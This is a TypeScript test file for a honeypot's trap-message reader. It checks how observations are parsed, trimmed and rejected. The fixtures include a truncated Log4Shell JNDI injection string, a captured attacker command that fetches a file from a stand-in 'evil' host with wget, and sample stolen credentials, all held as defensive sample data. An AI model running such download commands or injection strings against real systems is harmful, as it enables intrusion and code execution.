import { fc, test } from '@fast-check/vitest';
import { describe, expect } from 'vitest';
import { LARGEST_BATCH, readTrapMessage } from '#enforcer/traps/messages.ts';
import { LONGEST_TEXT, MOST_LINES, MOST_TEXT_BYTES } from '#enforcer/traps/receipts.ts';
import { endedOf, receiptOf, touchOf } from '#test/support/trap-receipts.ts';

const FINDING = { rule: 'log4shell', reason: 'exploit', kind: 'exploit', quote: '${jndi:\x01\xff' } as const;
const RECEIPT = receiptOf({
  head: 'AAA=',
  receivedBytes: 2,
  sentBytes: 40,
  durationMs: 3,
  findings: [FINDING],
  credentials: [
    { user: 'root', secret: '\xff"\n' },
    { user: 'sa', secret: '1234*5678', scheme: 'ntlmv2' },
  ],
  fingerprints: [{ name: 'ja4', value: 't13d1516h2' }],
  transcript: [{ atMs: 12, kind: 'command', text: 'wget http://evil/x' }],
  omitted: 3,
});
const TOUCH = touchOf('192.0.2.1', { count: 3, refused: 1 });
const ENDED = endedOf('2001:db8::1', { receipt: RECEIPT, open: 4 });
const CONTENT = { kind: 'content', at: 1, source: '192.0.2.1', port: 80, protocol: 'http', findings: [FINDING] };
const DATAGRAM = {
  kind: 'datagram',
  at: 1,
  source: '192.0.2.1',
  port: 161,
  protocol: 'snmp',
  findings: [],
  head: 'AAA=',
  receivedBytes: 40,
  answered: true,
  count: 2,
};
const batch = (...observations: unknown[]) => ({ kind: 'observations', observations, sessions: 1, lost: 0 });
const withReceipt = (parts: Record<string, unknown>) => ({ ...ENDED, receipt: { ...RECEIPT, ...parts } });

test('what the trap process says is taken as it was meant', () => {
  const said = batch(TOUCH, CONTENT, ENDED, DATAGRAM);
  expect(readTrapMessage(said)).toEqual({ ok: true, value: said });
  expect(readTrapMessage(JSON.parse(JSON.stringify(said)))).toEqual({ ok: true, value: said });
  expect(readTrapMessage({ kind: 'listening', more: 1 })).toEqual({ ok: true, value: { kind: 'listening' } });
  expect(readTrapMessage({ kind: 'fault', why: 'x'.repeat(900) })).toEqual({ ok: true, value: { kind: 'fault', why: 'x'.repeat(200) } });
});

test('what it says beside that is left out', () => {
  const said = batch({ ...TOUCH, more: 1 }, { ...ENDED, receipt: { ...RECEIPT, more: 1, transcript: [{ atMs: 1, kind: 'command', text: 'id', more: 1 }] } });
  const [touch, ended] = (readTrapMessage(said) as unknown as { value: { observations: Record<string, unknown>[] } }).value.observations;
  expect(touch).not.toHaveProperty('more');
  expect(JSON.stringify(ended)).not.toContain('more');
});

describe('is refused, as the trap process handles hostile bytes:', () => {
  test.each([
    ['no source', { ...TOUCH, source: 'localhost' }],
    ['a port out of range', { ...TOUCH, port: 65536 }],
    ['a negative count', { ...TOUCH, count: -1 }],
    ['more refused than came', { ...TOUCH, count: 1, refused: 2 }],
    ['an unknown kind', { ...CONTENT, kind: 'ban' }],
    ['content that is none', { ...CONTENT, findings: [] }],
    ['a reason that is not of the list', { ...CONTENT, findings: [{ ...FINDING, reason: 'because' }] }],
    ['a kind of finding that is not of the list', { ...CONTENT, findings: [{ ...FINDING, kind: 'ban' }] }],
    ['the name of a rule with a space', { ...CONTENT, findings: [{ ...FINDING, rule: 'log 4' }] }],
    ['a quote that is too long', { ...CONTENT, findings: [{ ...FINDING, quote: 'x'.repeat(201) }] }],
    ['a quote that is no bytes', { ...CONTENT, findings: [{ ...FINDING, quote: '\u0100' }] }],
    ['too many findings', { ...CONTENT, findings: Array(17).fill(FINDING) }],
    ['a head that is too long', withReceipt({ head: 'A'.repeat(400) })],
    ['a head that is not base64', withReceipt({ head: '<b>' })],
    ['an unknown end', withReceipt({ end: 'whatever' })],
    ['no receipt', { ...ENDED, receipt: null }],
    ['a protocol with a line feed', { ...ENDED, protocol: 'ssh\n' }],
    ['a secret that is no text', withReceipt({ credentials: [{ user: 'root', secret: 7 }] })],
    ['too many credentials', withReceipt({ credentials: Array(33).fill({ user: '', secret: '' }) })],
    ['too many lines', withReceipt({ transcript: Array(MOST_LINES + 1).fill({ atMs: 1, kind: 'command', text: '' }) })],
    ['a line that is too long', withReceipt({ transcript: [{ atMs: 1, kind: 'command', text: 'x'.repeat(LONGEST_TEXT + 1) }] })],
    [
      'more text than a receipt holds',
      withReceipt({ transcript: Array(MOST_LINES).fill({ atMs: 1, kind: 'command', text: '\0'.repeat(MOST_TEXT_BYTES / MOST_LINES / 6 + 1) }) }),
    ],
    ['a datagram without a count', { ...DATAGRAM, count: 0 }],
    ['a datagram that says neither yes nor no', { ...DATAGRAM, answered: 1 }],
  ])('%s', (_, observation) => {
    expect(readTrapMessage(batch(observation)).ok).toBe(false);
  });
});

test('a batch that is too large is refused before it is read', () => {
  expect(readTrapMessage(batch(...Array.from({ length: LARGEST_BATCH + 1 }, () => TOUCH)))).toEqual({ ok: false, why: 'too-many' });
});

test.prop([fc.anything()])('nothing makes the reader throw', anything => {
  readTrapMessage(anything);
  readTrapMessage(batch(anything));
  readTrapMessage(batch({ ...ENDED, receipt: anything }));
  readTrapMessage(withReceipt({ transcript: [anything], findings: anything }));
});
